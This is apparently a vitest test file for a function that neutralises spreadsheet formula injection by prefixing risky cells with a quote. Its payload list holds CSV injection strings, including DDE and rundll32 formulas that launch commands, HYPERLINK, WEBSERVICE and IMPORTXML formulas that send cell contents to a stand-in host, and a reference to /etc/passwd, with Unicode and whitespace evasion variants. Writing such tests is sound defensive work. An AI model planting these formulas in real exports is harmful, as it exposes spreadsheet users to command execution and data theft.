import { utils } from '@e965/xlsx'
import { expect, it } from 'vitest'
import { neutraliseFormula } from './neutralise-formula.ts'

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.test/?d="&A1,"click")',
  '=WEBSERVICE("http://x.test/"&A1)',
  '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
  '=IMPORTDATA("http://x.test/")',
  '=IMAGE("http://x.test/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")',
  "='file:///etc/passwd'#$passwd.A1",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '+91 98765 43210',
  '-5',
  '@handle',
  '=',
  ' =1+1',
  '   +1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u200E@SUM(1)',
  '\0=1+1',
  '\x01\x02=1+1',
  '\x1B-1',
  ' \t \u00A0\u200B=1+1',
  '\ttext',
  '\rtext',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
]

it.each(payloads.map(payload => [JSON.stringify(payload), payload]))('neutralises %s', (_title, payload) => {
  const safe = neutraliseFormula(payload)
  expect(safe).toBe(`'${payload}`)
  // A second export changes nothing more, and a separated file keeps the mark at the front of the cell.
  expect(neutraliseFormula(safe)).toBe(safe)
  expect(utils.sheet_to_csv(utils.aoa_to_sheet([[safe]]))).toMatch(/^"?'/)
})

it.each([
  '',
  'Asha',
  '9876543210',
  'a=b',
  'a+b@c.in',
  '3-4 weeks',
  "'=quoted",
  ' Asha',
  '(=1)',
  '012345',
  '15-08-2026',
  'é=1',
])('leaves %j as it is', text => expect(neutraliseFormula(text)).toBe(text))
